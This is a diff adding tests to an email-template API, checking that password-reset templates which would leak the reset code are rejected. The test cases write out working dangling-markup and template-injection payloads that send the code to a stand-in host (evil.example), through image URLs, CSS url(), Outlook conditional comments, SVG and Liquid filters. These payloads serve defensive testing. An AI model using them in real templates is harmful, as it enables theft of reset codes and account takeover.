@@ -111,6 +111,55 @@ describe('a template', () => {
     expect((await call(`PATCH /templates/${await idOf('signInCode', 'email')}`, spaced)).status).toBe(200);
   });
 
+  it.each([
+    ['in an attribute', '<p>{{ code }}</p><img src="https://evil.example/?c={{ code }}">', 'inside a tag'],
+    ['in a tag that is not closed', "<img src='https://evil.example/?c={{ code }} <p>", 'inside a tag'],
+    ['in an attribute whose quotes lie', `<b x=y"><img src='https://evil.example/?"> {{ code }}`, 'inside a tag'],
+    ['behind an end that is not rendered', '<img src="x?{% if false %}">{% endif %}{{ code }}', 'inside a tag'],
+    ['behind a comment that ended at once', '<!--><img src="https://evil.example/?-->{{ code }}', 'inside a tag'],
+    [
+      'behind what Outlook reads',
+      '<!--[if mso]><img src="https://evil.example/?<![endif]-->{{ code }}',
+      'inside a tag',
+    ],
+    ['in a style', '{{ code }}<style>p { background: url(//evil.example/{{ code }}) }</style>', 'inside a tag'],
+    ['in a drawing', '<svg><style><img src="https://evil.example/?</style></svg>{{ code }}', 'inside a tag'],
+    ['under a name that is put together', `{{ code }}<img src="?{{ ['code'] }}">`, 'inside a tag'],
+    ['through a filter', `{{ code }}<img src="?{{ '1' | append: code }}">`, 'inside a tag'],
+    ['as what chooses what is fetched', '{{ code }}{% if code contains "1" %}<img src="?1">{% endif %}', 'condition'],
+    ['kept for later', '{{ code }}{% assign kept = code %}<img src="?{{ kept }}">', "no 'assign'"],
+    ['caught', '{% capture kept %}{{ code }}{% endcapture %}<img src="?{{ kept }}">', "no 'capture'"],
+    ['left open by a shared text', '{{ storage.opens }}{{ code }}', "'storage.opens'"],
+    ['broken out of by a shared text', '{{ code }}<b title="{{ storage.whole }}">', 'inside a tag'],
+  ])('of a code does not tell it elsewhere: %s', async (_where, html, what) => {
+    await api.sql(
+      `insert into storage_value (key, value, type) values ('opens', '<img src="https://evil.example/?', 'html'), ('whole', '<b>Us</b>', 'html')
+       on conflict do nothing`,
+    );
+    const [type] = (await call('GET /templates/types?filter[name]=restorePassword')).body.data;
+    const answer = await call('POST /templates/preview', { typeId: type.id, html, text: '{{ code }}' });
+    expect([answer.status, detail(answer.body)?.field]).toEqual([400, 'html']);
+    expect(detail(answer.body).issue).toContain(what);
+  });
+
+  it('of a code may look as it likes otherwise', async () => {
+    await call('POST /storage/values', { key: 'logo', value: 'https://broker.example/logo.png', type: 'url' });
+    await call('POST /storage/values', { key: 'endnote', value: '<hr><b>Us</b>', type: 'html' });
+    const [type] = (await call('GET /templates/types?filter[name]=restorePassword')).body.data;
+    const html = `<!doctype html><!-- ours --><html lang=en><head><title>Code</title><style>td > b { color: red }</style></head><body>
+      <!--[if mso]><table width="600"><tr><td><![endif]--><a href="{{ storage.logo }}?for={{ firstName }}" title='Us'><img src="{{ storage.logo }}" hidden /></a>
+      {% if firstName %}<p>Dear {{ firstName | upcase }}, 1 &lt; 2</p>{% else %}<br>{% endif %}{% comment %}<i>{% endcomment %}
+      <td style="color: red">{{ code | slice: 0, 3 }} {{ code | slice: 3, 3 }}</td><!--[if mso]></td></tr></table><![endif]-->{{ storage.endnote }}</body></html>`;
+    expect((await call('POST /templates/preview', { typeId: type.id, html, text: '{{ code }}' })).status).toBe(200);
+    for (const { id } of (await call('GET /templates?limit=1000')).body.data) {
+      const original = await call(`POST /templates/${id}/reset`);
+      if (original.status === 200)
+        expect(
+          (await call(`PATCH /templates/${id}`, { html: original.body.html, text: original.body.text })).status,
+        ).toBe(200);
+    }
+  });
+
   it('goes back to its original text', async () => {
     const before = (await call(`GET /templates/${templateId}`)).body;
     await call(`PATCH /templates/${templateId}`, { subject: 'Mine', text: 'Mine' });
@@ -162,6 +211,23 @@ describe('a shared text', () => {
     const again = await call(`PATCH /templates/${using.id}`, { enabled: true });
     expect([again.status, detail(again.body).field]).toEqual([400, 'text']);
     expect((await call(`DELETE ${value}`)).status).toBe(204);
+  });
+
+  it('that is HTML has no tag that is left open, and does not become HTML where a code stands around its tag', async () => {
+    const open = await call('POST /storage/values', { key: 'open', value: '<img src="?', type: 'html' });
+    expect([open.status, detail(open.body).field]).toEqual([400, 'value']);
+    const link = (await call('POST /storage/values', { key: 'link', value: 'https://broker.example', type: 'url' }))
+      .body;
+    const words = (await call('POST /storage/values', { key: 'words', value: 'Us' })).body;
+    const [type] = (await call('GET /templates/types?filter[name]=restorePassword')).body.data;
+    const html = '<a href="{{ storage.link }}">{{ code }}</a>{{ storage.words }}';
+    const template = { typeId: type.id, channel: 'email', locale: 'fi_FI', subject: 'Code', html, text: '{{ code }}' };
+    const made = await call('POST /templates', template);
+    expect(made.status).toBe(201);
+    const refused = await call(`PATCH /storage/values/${link.id}`, { type: 'html' });
+    expect([refused.status, detail(refused.body).field]).toEqual([409, 'type']);
+    expect(detail(refused.body).issue).toBe('Templates use it: restorePassword (email, fi_FI).');
+    expect((await call(`PATCH /storage/values/${words.id}`, { type: 'html', value: '<b>Us</b>' })).status).toBe(200);
   });
 
   it('that every mail ends with is not deleted; without it no original that uses it is brought back', async () => {
